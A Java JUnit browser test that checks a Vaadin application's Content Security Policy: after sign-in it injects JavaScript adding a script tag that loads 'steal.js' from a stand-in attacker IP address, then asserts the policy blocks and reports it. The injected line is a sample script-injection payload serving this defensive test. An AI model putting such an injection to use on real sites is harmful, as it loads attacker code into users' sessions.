package org.relieve.journey;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;

import org.junit.jupiter.api.Test;

/**
 * The check every journey ends with can fail: a resource from another origin, added to a signed-in
 * page, is blocked by the policy and shows up as a violation. The Vaadin page itself, before it,
 * caused none.
 */
class JourneyContentSecurityPolicyTest extends BrowserJourney {

    @Test
    void aForeignScriptIsBlockedAndReportedWhileVaadinsOwnPageRunsClean() {
        signIn("manager");
        assertThat(contentSecurityPolicyViolations()).as("the signed-in page itself").isEmpty();

        script("""
                const foreign = document.createElement('script');
                foreign.src = 'http://203.0.113.9/steal.js';
                document.head.appendChild(foreign);""");

        List<String> violations = waitForViolations();
        assertThat(violations).anySatisfy(message -> assertThat(message)
                .contains("203.0.113.9/steal.js").contains("script-src"));
    }

    private List<String> waitForViolations() {
        return wait.until(browser -> {
            List<String> seen = contentSecurityPolicyViolations();
            return seen.isEmpty() ? null : seen;
        });
    }

    @Override
    protected boolean expectsNoViolations() {
        return false;
    }
}
